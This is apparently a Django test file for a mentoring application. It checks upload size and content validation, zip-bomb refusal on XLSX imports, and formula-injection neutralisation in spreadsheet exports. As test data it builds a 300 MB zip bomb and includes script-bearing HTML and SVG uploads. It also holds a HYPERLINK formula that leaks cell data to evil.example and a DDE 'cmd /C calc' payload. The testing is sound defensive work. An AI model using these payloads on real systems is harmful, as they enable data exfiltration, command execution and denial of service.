"""Files in and out: uploads limited by size and checked by content, XLSX imports safe against zip
bombs, and no exported cell that a spreadsheet would run as a formula."""

import io
import time
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from accounts.models import Role
from mentoring import importing
from mentoring.academic_year import academic_year_of
from mentoring.models import Consent, Participant
from mentoring.uploads import MAX_SCAN_BYTES
from reports.exporters import FORMULA_TRIGGERS
from roadmap.models import Roadmap
from tests.mentoring.factories import MenteeEntryFactory, MentorEntryFactory, ParticipantFactory, StaffFactory
from tests.monitoring.factories import answer, campaign, questionnaire
from tests.roadmap.factories import activity_in

INFLATED_MB = 300
BOMB_MESSAGE = "распаковывается больше чем в 50 МБ"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    """A real workbook whose sheet XML inflates to 300 MB of blanks: a few hundred KB on disk."""
    workbook = Workbook()
    workbook.active.append([column.header for column in importing.COLUMNS])
    source = io.BytesIO()
    workbook.save(source)
    bomb = io.BytesIO()
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for item in original.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                target.writestr(item, original.read(item))
                continue
            xml = original.read(item)
            head, tail = xml.split(b"</sheetData>")
            with target.open(item.filename, "w", force_zip64=True) as sheet:
                sheet.write(head)
                blanks = b" " * (1024 * 1024)
                for _ in range(INFLATED_MB):
                    sheet.write(blanks)
                sheet.write(b"</sheetData>" + tail)
    content = bomb.getvalue()
    assert len(content) < 2 * 1024 * 1024
    return content


def test_a_zip_bomb_is_refused_by_the_participant_import_quickly(zip_bomb, client, world):
    client.force_login(world.a.users[Role.CURATOR])
    client.get(reverse("registry_import"))  # the first request of a test warms up templates and middleware
    started = time.monotonic()
    response = client.post(reverse("registry_import"), {"file": SimpleUploadedFile("класс.xlsx", zip_bomb)})
    assert time.monotonic() - started < 3
    assert response.status_code == 200
    assert BOMB_MESSAGE in response.content.decode()
    assert not Participant.objects.exists()


def test_a_zip_bomb_is_refused_by_the_roadmap_import_quickly(zip_bomb, client, world):
    client.force_login(world.a.users[Role.CURATOR])
    client.get(reverse("roadmap_import"))
    started = time.monotonic()
    response = client.post(
        reverse("roadmap_import"), {"file": SimpleUploadedFile("карта.xlsx", zip_bomb), "academic_year": "2026"}
    )
    assert time.monotonic() - started < 3
    assert response.status_code == 200
    assert BOMB_MESSAGE in response.content.decode()
    assert not Roadmap.objects.filter(is_template=False).exists()


def test_the_real_template_passes_the_archive_check():
    """The limits leave room for real workbooks: the empty template is refused for having no rows,
    not for what it unpacks to."""
    with pytest.raises(importing.ImportFileError, match="нет строк с данными"):
        importing.read_workbook(io.BytesIO(importing.build_template()))


def consent_post(scan) -> dict:
    return {
        "kind": "processing",
        "signed_by": "representative",
        "representative_name": "Иванова Ольга Петровна",
        "representative_document": "свидетельство о рождении",
        "signed_on": "01.09.2026",
        "scan": scan,
    }


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("скан.png", b"<html><script>alert(1)</script></html>", "не является PDF, JPEG или PNG"),
        ("скан.pdf", b"MZ\x90\x00" + b"\x00" * 60, "не является PDF, JPEG или PNG"),
        ("скан.pdf", b"%PDF-1.4\n" + b"0" * (MAX_SCAN_BYTES + 1 - 9), "больше 10 МБ"),
    ],
    ids=["html-renamed-png", "exe-renamed-pdf", "10MB-plus-1"],
)
def test_a_scan_is_checked_by_size_and_content(name, content, message, client, world):
    pupil = ParticipantFactory(organization=world.a.organization)
    client.force_login(world.a.users[Role.CURATOR])
    response = client.post(
        reverse("consent_create", kwargs={"pk": pupil.pk}), consent_post(SimpleUploadedFile(name, content))
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Consent.objects.exists()


def test_a_pdf_renamed_png_is_kept_and_served_as_the_pdf_it_is(client, world):
    pupil = ParticipantFactory(organization=world.a.organization)
    client.force_login(world.a.users[Role.CURATOR])
    exact = PDF + b"0" * (MAX_SCAN_BYTES - len(PDF))
    response = client.post(
        reverse("consent_create", kwargs={"pk": pupil.pk}), consent_post(SimpleUploadedFile("фото.png", exact))
    )
    assert response.status_code == 302
    consent = Consent.objects.get()
    download = client.get(reverse("consent_scan", kwargs={"pk": consent.pk}))
    assert download["Content-Type"] == "application/pdf"
    assert download["Cache-Control"] == "private, no-store"


@pytest.mark.parametrize(
    ("name", "content", "accepted"),
    [
        ("протокол.pdf", PDF, True),
        ("протокол.docx", None, True),
        ("протокол.pdf", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", False),
        ("архив.docx", None, False),
    ],
    ids=["pdf", "docx", "svg-renamed-pdf", "zip-renamed-docx"],
)
def test_evidence_of_an_activity_is_checked_by_content(name, content, accepted, client, world):
    if content is None:
        output = io.BytesIO()
        with zipfile.ZipFile(output, "w") as archive:
            if accepted:
                archive.writestr("[Content_Types].xml", "<Types/>")
            archive.writestr("index.html", "<script>alert(1)</script>")
        content = output.getvalue()
    activity = activity_in(world.a.organization)
    client.force_login(world.a.users[Role.CURATOR])
    response = client.post(
        reverse("activity_status", kwargs={"pk": activity.pk}),
        {
            "status": "done",
            "completed_on": timezone.localdate().strftime("%d.%m.%Y"),
            "evidence_file": SimpleUploadedFile(name, content),
        },
    )
    activity.refresh_from_db()
    if accepted:
        assert response.status_code == 302 and activity.evidence_file
    else:
        assert response.status_code == 200
        assert "не PDF, не изображение JPEG или PNG" in response.content.decode()
        assert not activity.evidence_file and activity.status != "done"


# Formula injection ------------------------------------------------------------------------------


def assert_no_formulas(content: bytes) -> int:
    """Every formula-looking text is a plain string cell with the quote prefix; returns how many."""
    workbook = load_workbook(io.BytesIO(content))
    found = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    found += 1
    return found


def test_registries_carry_formula_looking_names_as_text(client, world):
    year = academic_year_of(timezone.localdate())
    organization = world.a.organization
    MenteeEntryFactory(
        participant=ParticipantFactory(organization=organization, last_name=FORMULA, class_name="@SUM(1+1)"),
        academic_year=year,
        key_request="+7 900 000 00 00",
    )
    MentorEntryFactory(
        participant=StaffFactory(organization=organization, last_name="-2+3"), academic_year=year, competencies=FORMULA
    )
    client.force_login(world.a.users[Role.CURATOR])
    for registry in ("mentees", "mentors"):
        response = client.get(reverse("registry_export", args=[registry]) + f"?year={year}")
        assert response.status_code == 200
        assert assert_no_formulas(response.content) >= 2, registry


@pytest.mark.parametrize("anonymized", [False, True])
def test_campaign_answers_carry_formula_looking_answers_as_text(anonymized, client, world):
    organization = world.a.organization
    pupil = ParticipantFactory(organization=organization, last_name=FORMULA)
    asked = questionnaire(organization, questions=[("text", "=Что понравилось?", {}), ("text", "Чего не хватило?", {})])
    made = campaign(organization, questionnaire_=asked, people=[pupil], title="=1+1")
    answer(made, pupil, {"=Что понравилось?": FORMULA, "Чего не хватило?": "\tcmd|' /C calc'!A0"})
    client.force_login(world.a.users[Role.CURATOR])
    url = reverse("campaign_export", args=[made.pk]) + ("?anonymized=1" if anonymized else "")
    response = client.get(url)
    assert response.status_code == 200
    assert assert_no_formulas(response.content) >= (3 if anonymized else 4)


def test_roadmap_export_carries_formula_looking_text_as_text(client, world):
    activity = activity_in(world.a.organization, title=FORMULA, responsible_text="=Иванова И. И.")
    client.force_login(world.a.users[Role.CURATOR])
    response = client.get(reverse("roadmap_export", kwargs={"pk": activity.roadmap_id}))
    assert response.status_code == 200
    assert assert_no_formulas(response.content) >= 1
